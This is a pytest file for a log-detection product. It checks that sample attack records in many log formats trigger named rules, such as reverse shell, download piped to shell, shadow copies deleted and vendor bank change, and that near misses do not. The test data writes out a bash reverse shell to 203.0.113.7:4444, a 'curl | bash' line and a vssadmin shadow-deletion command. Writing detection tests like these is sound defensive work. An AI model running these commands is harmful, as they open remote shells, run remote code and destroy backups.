"""Every format: an attack as the product writes it hits a named rule, a near miss does not."""

import gzip
import io
import json
import tarfile
import zipfile
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import zstandard
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Raw
from scapy.utils import wrpcap

from detectors import invoice_amount, sigma
from pipelines.edge import as_messages
from pipelines.parsing import split_stream
from pipelines.sources.files import walk
from storage.schema import Context, Finding
from tests.shared import shared_data
from tests.walks import raw
from tests.walks.path import batches, findings, house_rules, rule_id
from tests.walks.raw import ndjson


class Walk(NamedTuple):
    """Raw input, the rule it must hit, whom the finding is about, one reason, and a near miss."""

    name: str
    hit: bytes
    rule: str
    entity: tuple[str, str]
    reason: tuple[str, str]
    miss: bytes


def _trail(record: dict[str, Any], **changed: object) -> bytes:
    return json.dumps({"Records": [record | changed]}).encode()


def _inner(event: dict[str, Any], group: str, **changed: object) -> bytes:
    return ndjson(event | {group: event[group] | changed})


_SHELL = "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
_HEX = b"2F6465762F7463702F"
_DELETE = "vssadmin delete shadows /all /quiet"
_LIST = "vssadmin list shadows"
WALKS = (
    Walk("auditd shell", raw.AUDITD_SHELL, "linux_reverse_shell", ("host", "web01"),
         ("CommandLine", _SHELL), raw.AUDITD_SHELL.replace(_HEX, b"2F6465762F6E756C6C2F")),
    Walk("auditd cron", raw.AUDITD_CRON, "linux_persistence_file_changed", ("user", "root"),
         ("file.path", "/etc/crontab"), raw.AUDITD_CRON.replace(b"a2=441", b"a2=80000")),
    Walk("syslog sshd", raw.SSHD_ROOT, "root_signs_in_remotely", ("host", "web01"),
         ("src_endpoint.ip", "203.0.113.9"), raw.SSHD_ROOT.replace(b"Accepted", b"Failed")),
    Walk("syslog cron", raw.CRON_PIPE, "linux_download_piped_to_shell", ("host", "web01"),
         ("CommandLine", "curl -s http://203.0.113.7/x | bash"),
         raw.CRON_PIPE.replace(b"| bash", b"-o x")),
    Walk("zeek_tsv dns", raw.ZEEK_DNS, "dns_name_of_tunnel_service", ("ip", "10.0.0.5"),
         ("query.hostname", "abc123.ngrok.io"),
         raw.ZEEK_DNS.replace(b"abc123.ngrok.io", b"ngrok.io.example.com")),
    Walk("zeek_json conn", ndjson(raw.ZEEK_RDP), "remote_desktop_from_internet",
         ("ip", "203.0.113.9"), ("dst_endpoint.port", "3389"),
         ndjson(raw.ZEEK_RDP | {"id.orig_h": "10.0.0.9"})),
    Walk("zeek_json smtp", ndjson(raw.ZEEK_MAIL), "mail_asks_to_change_bank_details",
         ("ip", "203.0.113.9"), ("email.subject", "Our new bank details"),
         ndjson(raw.ZEEK_MAIL | {"subject": "Our new details"})),
    Walk("suricata alert", ndjson(raw.EVE_ALERT), "foreign_sensor_high_alert",
         ("ip", "203.0.113.9"), ("finding_info.title", "ET MALWARE Implant Check-in"),
         _inner(raw.EVE_ALERT, "alert", severity=3)),
    Walk("suricata dns", ndjson(raw.EVE_DNS), "dns_name_of_dynamic_provider",
         ("ip", "203.0.113.9"), ("query.hostname", "home.duckdns.org"),
         _inner(raw.EVE_DNS, "dns", queries=[{"rrname": "duckdns.example.org", "rrtype": "A"}])),
    Walk("cloudtrail stop", _trail(raw.TRAIL_STOPPED), "cloud_trail_stopped", ("user", "alice"),
         ("eventName", "StopLogging"), _trail(raw.TRAIL_STOPPED, errorCode="AccessDenied")),
    Walk("cloudtrail root", _trail(raw.TRAIL_ROOT), "cloud_root_signs_in", ("user", "Root"),
         ("userIdentity.type", "Root"),
         _trail(raw.TRAIL_ROOT, responseElements={"ConsoleLogin": "Failure"})),
    Walk("cef firewall", raw.CEF_RDP, "remote_desktop_from_internet", ("ip", "192.0.2.9"),
         ("traffic.bytes_in", "50000"), raw.CEF_RDP.replace(b"192.0.2.9", b"10.1.1.9")),
    Walk("cef threat", raw.CEF_THREAT, "foreign_sensor_high_alert", ("ip", "192.0.2.9"),
         ("finding_info.title", "SSH Brute Force Attempt"), raw.CEF_THREAT.replace(b"|8|", b"|3|")),
    Walk("business bank", raw.BANK_CHANGE, "vendor_bank_account_changed", ("vendor", "V-17"),
         ("vendor.bank_account", "GB33BUKB20201555555555"),
         raw.BANK_CHANGE.replace(b"bank_change", b"update")),
    Walk("business approval", raw.SELF_APPROVED, "invoice_approved_by_its_creator",
         ("vendor", "V-17"), ("actor.user.name", "carol"),
         raw.SELF_APPROVED.replace(b"carol,carol", b"carol,dave")),
    Walk("business json limit", ndjson(raw.PAYMENT), "payment_just_under_limit",
         ("vendor", "V-17"), ("amount_cents", "990000"),
         ndjson(raw.PAYMENT | {"amount": "10000.00"})),
    Walk("business json country", ndjson(raw.PAYMENT | {"bank_account": "RU0204452560040702810"}),
         "payment_to_account_in_unusual_country", ("vendor", "V-17"),
         ("vendor.bank_account", "RU0204452560040702810"),
         ndjson(raw.PAYMENT | {"amount": "12.00"})),
    Walk("ocsf mail", ndjson(raw.OCSF_MAIL), "mail_asks_to_change_bank_details",
         ("ip", "203.0.113.9"), ("email.subject", "Neue Bankverbindung"),
         _inner(raw.OCSF_MAIL, "email", subject="Neue Verbindung")),
    Walk("ocsf process", ndjson(raw.OCSF_PROCESS), "shadow_copies_deleted", ("host", "ws1"),
         ("CommandLine", "vssadmin delete shadows /all"),
         _inner(raw.OCSF_PROCESS, "process", cmd_line=_LIST)),
    Walk("ecs process", ndjson(raw.ECS_PROCESS), "shadow_copies_deleted", ("host", "ws1"),
         ("CommandLine", "vssadmin delete shadows /all"),
         _inner(raw.ECS_PROCESS, "process", command_line=_LIST)),
    Walk("ecs sign-in", ndjson(raw.ECS_LOGIN), "root_signs_in_remotely", ("host", "web01"),
         ("user.name", "root"), _inner(raw.ECS_LOGIN, "user", name="ann")),
    Walk("ecs alert", ndjson(raw.ECS_ALERT), "foreign_sensor_high_alert", ("host", "ws1"),
         ("finding_info.title", "Malware Detection Alert"),
         _inner(raw.ECS_ALERT, "event", severity=21)),
    Walk("windows flat sysmon", ndjson(raw.FLAT_SYSMON), "shadow_copies_deleted", ("host", "ws1"),
         ("CommandLine", _DELETE), ndjson(raw.FLAT_SYSMON | {"CommandLine": _LIST})),
    Walk("windows flat security", ndjson(raw.FLAT_SECURITY), "shadow_copies_deleted",
         ("host", "ws1"), ("CommandLine", _DELETE),
         ndjson(raw.FLAT_SECURITY | {"CommandLine": _LIST})),
    Walk("windows winlogbeat", ndjson(raw.WINLOGBEAT), "shadow_copies_deleted", ("host", "ws1"),
         ("CommandLine", _DELETE), ndjson(raw.WINLOGBEAT).replace(b"delete", b"list")),
    Walk("windows wazuh", ndjson(raw.WAZUH_SERVICE), "service_from_odd_command", ("host", "ws1"),
         ("ImagePath", "cmd.exe /c calc"), ndjson(raw.WAZUH_SERVICE).replace(b"/c calc", b"")),
    Walk("windows evtx_dump", ndjson(raw.DUMPED_CLEAR), "security_log_cleared", ("host", "dc1"),
         ("EventID", "1102"), ndjson(raw.DUMPED_CLEAR).replace(b"1102", b"1100")),
)  # fmt: skip


def hits(found: list[Finding], rule: str) -> list[Finding]:
    return [f for f in found if f.rule_id == rule_id(rule)]


@pytest.mark.parametrize("walk_", WALKS, ids=lambda w: w.name)
def test_raw_input_gives_the_finding_that_an_analyst_expects(walk_: Walk) -> None:
    (one,) = hits(findings(walk_.hit), walk_.rule)
    assert (one.entity_type, one.entity) == walk_.entity
    assert walk_.reason in {(r.name, r.value) for r in one.reasons}
    assert one.tenant_id == "acme"
    assert all(r.expected for r in one.reasons)


@pytest.mark.parametrize("walk_", WALKS, ids=lambda w: w.name)
def test_a_near_miss_does_not_hit(walk_: Walk) -> None:
    assert hits(findings(walk_.miss), walk_.rule) == []


def test_sysmon_and_security_audit_each_hit_once() -> None:
    found = findings(ndjson(raw.FLAT_SYSMON, raw.FLAT_SECURITY))
    assert len(hits(found, "shadow_copies_deleted")) == 2


def test_a_real_event_log_hits() -> None:
    file = shared_data("evtx") / "Defense Evasion" / "DE_1102_security_log_cleared.evtx"
    (one,) = hits(findings(file.read_bytes(), "evtx"), "security_log_cleared")
    assert (one.entity_type, one.entity) == ("host", "PC01.example.corp")


def test_a_capture_hits_after_the_edge(tmp_path: Path) -> None:
    ends = IP(src="203.0.113.9", dst="10.0.0.8")
    back = IP(src="10.0.0.8", dst="203.0.113.9")
    name = DNS(rd=1, qd=DNSQR(qname="abc.ngrok.io"))
    packets = [
        Ether() / ends / TCP(sport=50022, dport=3389, flags="S"),
        Ether() / back / TCP(sport=3389, dport=50022, flags="SA"),
        Ether() / ends / TCP(sport=50022, dport=3389, flags="A"),
        *(Ether() / back / TCP(sport=3389, dport=50022, flags="A") / Raw(b"x" * 900) for _ in "ab"),
        Ether() / IP(src="10.0.0.5", dst="10.0.0.1") / UDP(sport=5353, dport=53) / name,
    ]
    wrpcap(str(tmp_path / "a.pcap"), packets)
    capture = (tmp_path / "a.pcap").read_bytes()
    log_format, messages = as_messages("pcap", [capture], 1 << 20, split_stream)
    found = [f for _, message in messages for f in findings(message, log_format)]
    (desktop,) = hits(found, "remote_desktop_from_internet")
    (tunnel,) = hits(found, "dns_name_of_tunnel_service")
    assert [desktop.entity, tunnel.entity] == ["203.0.113.9", "10.0.0.5"]


def _zip(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("logs/one.log", data)
    return out.getvalue()


def _tar_gz(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("logs/one.log")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("pack", [_zip, _tar_gz, gzip.compress, zstandard.compress])
def test_an_archive_hits_like_its_member(tmp_path: Path, pack: Any) -> None:  # noqa: ANN401  any packer
    (tmp_path / "packed").write_bytes(pack(raw.AUDITD_SHELL))
    found: list[Finding] = []
    for item in walk([tmp_path]):
        log_format, chunks = item.detected()
        found += findings(b"".join(chunks), log_format)
    assert len(hits(found, "linux_reverse_shell")) == 1


def test_an_invoice_ten_times_the_usual_is_claimed() -> None:
    head = raw.SELF_APPROVED.split(b"\n")[0].decode()
    rows = [f"invoice,issue,I-{n},,V-1,Acme,100.00,EUR,2024-05-0{n},carol,," for n in range(1, 7)]
    rows += ["invoice,issue,I-7,,V-1,Acme,1000.00,EUR,2024-05-08,carol,,"]
    text = "\n".join([head, *rows]) + "\n"
    (batch,) = batches(text.encode())
    context = Context(watermark_us=0)
    (one,) = invoice_amount.detect(invoice_amount.META.empty_state(), batch, context)[1]
    assert (one.entity_type, one.entity) == ("vendor", "V-1")
    assert ("document", "I-7") in one.links


def test_every_class_of_rule_has_a_walk() -> None:
    walked = {w.rule for w in WALKS}
    assert len(walked) >= 15
    assert {rule_id(name) for name in walked} <= {r.rule_id for r in house_rules().rules}
    assert sigma.META.name == "sigma"
